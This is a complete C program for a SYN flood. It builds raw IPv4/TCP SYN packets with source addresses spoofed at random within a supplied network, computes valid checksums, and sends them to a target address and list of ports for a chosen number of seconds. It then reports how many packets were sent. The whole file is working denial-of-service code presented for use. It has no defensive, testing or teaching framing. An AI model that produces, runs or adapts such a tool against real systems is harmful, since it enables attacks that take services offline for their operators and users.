// Asks for connections that nobody wants to complete: SYNs from made-up addresses of a network.
// syn_flood SECONDS NETWORK ADDRESS PORT...   (NETWORK: 10.77.0.0, of which the last two octets are made up)
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

static unsigned sum_of(const void *data, size_t octets, unsigned sum) {
    const unsigned char *at = data;
    for (size_t i = 0; i + 1 < octets; i += 2)
        sum += at[i] << 8 | at[i + 1];
    return sum;
}

static unsigned short folded(unsigned sum) {
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum & 0xffff);
}

int main(int argc, char **argv) {
    if (argc < 5)
        return 2;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct sockaddr_in to = {.sin_family = AF_INET};
    to.sin_addr.s_addr = inet_addr(argv[3]);
    unsigned network = ntohl(inet_addr(argv[2])), sent = 0;
    time_t end = time(NULL) + atoi(argv[1]);
    while (time(NULL) < end) {
        struct packet p = {0};
        p.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
                              .tot_len = htons(sizeof p), .daddr = to.sin_addr.s_addr,
                              .saddr = htonl(network | 0x8000 | (rand() & 0x7fff))};
        p.tcp = (struct tcphdr){.source = htons(1024 + rand() % 60000), .seq = rand(), .doff = 5, .syn = 1,
                                .dest = htons(atoi(argv[4 + sent % (argc - 4)])), .window = htons(1024)};
        unsigned sum = sum_of(&p.ip.saddr, 8, IPPROTO_TCP + sizeof p.tcp);
        p.tcp.check = folded(sum_of(&p.tcp, sizeof p.tcp, sum));
        sent += sendto(raw, &p, sizeof p, 0, (struct sockaddr *)&to, sizeof to) == sizeof p;
        if (sent % 64 == 0)
            nanosleep(&(struct timespec){.tv_nsec = 2000000}, NULL);
    }
    printf("%u\n", sent);
    return sent == 0;
}
